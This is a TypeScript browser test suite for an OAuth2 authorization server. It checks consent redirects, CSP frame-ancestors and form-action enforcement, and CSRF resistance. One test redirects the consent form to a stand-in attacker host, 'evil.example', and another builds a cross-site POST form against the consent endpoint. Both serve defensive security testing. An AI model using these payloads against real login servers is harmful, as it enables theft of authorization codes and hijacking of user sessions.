import type { Browser, Frame, Page } from 'playwright'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'

import { launchBrowser } from '#test/support/browser.ts'
import {
  openClientSite,
  openWatchedPage,
  type ClientSite,
  type WatchedPage,
} from '#test/support/hostile-browser.ts'
import type { TestIssuer } from '#test/support/issuer.ts'
import { raw } from '#test/support/raw-socket.ts'
import { authorizationUrl, type Form } from '#test/support/relying-party.ts'
import { alice, startWorkspace } from '#test/support/workspace.ts'

let browser: Browser
let issuer: TestIssuer
let site: ClientSite

beforeAll(async () => {
  browser = await launchBrowser()
  site = await openClientSite()
  issuer = await startWorkspace({
    redirectUris: [
      'http://127.0.0.1/callback',
      'http://localhost/callback',
      'http://[::1]/callback',
      'com.example.app:/callback',
      'https://client.example/callback',
    ],
  })
})
afterAll(async () => {
  expect(issuer.bugs).toEqual([])
  await browser.close()
  await site[Symbol.asyncDispose]()
  await issuer[Symbol.asyncDispose]()
})

function ask(changes: Form = {}): string {
  return authorizationUrl(issuer, { redirect_uri: site.callback, ...changes }).href
}

async function signIn(page: Page): Promise<void> {
  await page.locator('#username').fill(alice.username)
  await page.locator('#password').fill(alice.password)
  await page.locator('#sign-in-button').click()
}

async function openSignedIn(changes: Form = {}): Promise<WatchedPage> {
  const watched = await openWatchedPage(browser)
  await watched.page.goto(ask(changes))
  await signIn(watched.page)
  await watched.page.locator('#allow').waitFor()
  return watched
}

describe('the way from consent to the client (row 80)', () => {
  test.each(['query', 'form_post'])('is open for response_mode=%s', async (mode) => {
    await using watched = await openSignedIn({ response_mode: mode })
    await watched.page.locator('#allow').click()
    await watched.page.locator('#here').waitFor()
    const { url, body } = site.arrivals.at(-1) ?? {}
    expect(url?.searchParams.get('code') ?? body?.get('code')).toMatch(/^lkc_/)
    expect(watched.complaints).toEqual([])
  })

  test('is open from the sign-in page, where no consent stands between', async () => {
    await using watched = await openWatchedPage(browser)
    const { page, complaints } = watched
    await page.goto(ask({ scope: 'unknown' }))
    await signIn(page)
    await page.locator('#here').waitFor()
    expect(site.arrivals.at(-1)?.url.searchParams.get('error')).toBe('invalid_scope')
    expect(complaints).toEqual([])
  })

  test.each([
    'http://[::1]:9/callback',
    'http://localhost:9/callback',
    'com.example.app:/callback',
  ])('is open to %s', async (redirectUri) => {
    await using watched = await openSignedIn({ redirect_uri: redirectUri })
    const { page, complaints } = watched
    const left = page.waitForEvent('request', (request) => request.url().includes('code='))
    await page.locator('#allow').click()
    if (redirectUri.startsWith('http')) await left
    else await left.catch(() => undefined)
    expect(complaints).toEqual([])
  })

  test('leads to no other client', async () => {
    await using watched = await openSignedIn()
    const { page, complaints } = watched
    await page.locator('#consent').evaluate((form: HTMLFormElement) => {
      form.action = 'https://evil.example/take'
      form.requestSubmit(form.querySelector<HTMLButtonElement>('#allow'))
    })
    await expect.poll(() => complaints.join()).toMatch(/form-action/)
    expect(complaints.filter((each) => each.startsWith('request:'))).toEqual([])
  })
})

describe('frames (row 64)', () => {
  const framed = async (page: Page, src: string): Promise<Frame> => {
    await page.goto(site.serve('/frame', `<!doctype html><iframe src="${src}"></iframe>`))
    await page.waitForLoadState('load')
    const frame = page.frames()[1]
    if (!frame) throw new Error('No frame.')
    return frame
  }

  test.each([
    ['sign-in', () => ask()],
    ['an error', () => ask({ client_id: 'nobody' })],
    ['sign-out', () => `${issuer.url}/oauth2/logout`],
    ['metadata', () => `${issuer.url}/.well-known/openid-configuration`],
    ['nothing', () => `${issuer.url}/nothing`],
  ])('of another site never show %s', async (_page, url) => {
    await using watched = await openWatchedPage(browser)
    const frame = await framed(watched.page, url())
    await expect.poll(() => frame.url()).toMatch(/^chrome-error:/)
    expect(watched.complaints.join()).toMatch(/frame-ancestors/)
  })

  test('carry the answer of prompt=none to the client', async () => {
    await using watched = await openWatchedPage(browser)
    const frame = await framed(watched.page, ask({ prompt: 'none' }))
    await frame.locator('#here').waitFor()
    expect(site.arrivals.at(-1)?.url.searchParams.get('error')).toBe('login_required')
    expect(watched.complaints).toEqual([])
    const { pathname, search } = new URL(ask({ prompt: 'none' }))
    const answer = await raw(issuer.url, { path: pathname + search })
    expect(answer.status).toBe(303)
    expect(answer.headers.get('content-security-policy')).toBeUndefined()
    expect(answer.headers.get('x-frame-options')).toBeUndefined()
  })
})

test('a page of another site cannot use the user’s session (rows 49, 63)', async () => {
  await using watched = await openSignedIn()
  const { page } = watched
  const consent = new URL(page.url())
  const fields = {
    interaction: consent.searchParams.get('interaction') ?? '',
    decision: 'allow',
    'scope:read': 'on',
  }
  const inputs = Object.entries(fields).map(([n, v]) => `<input name="${n}" value="${v}">`)
  const arrived = site.arrivals.length
  for (const type of ['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data']) {
    const form = `<form method="post" enctype="${type}" action="${issuer.url}/oauth2/consent">`
    await page.goto(site.serve('/attack', `<!doctype html>${form}${inputs.join('')}<button>Go`))
    await page.locator('button').click()
    await expect.poll(() => page.url()).toBe(`${issuer.url}/oauth2/consent`)
  }
  expect(site.arrivals).toHaveLength(arrived)
  await page.goto(consent.href)
  await page.locator('#allow').click()
  await page.locator('#here').waitFor()
  const { url, method, body } = site.arrivals.at(-1) ?? {}
  expect(method).toBe('GET')
  expect(url?.searchParams.get('code')).toMatch(/^lkc_/)
  expect([...(body ?? [])]).toEqual([])
})
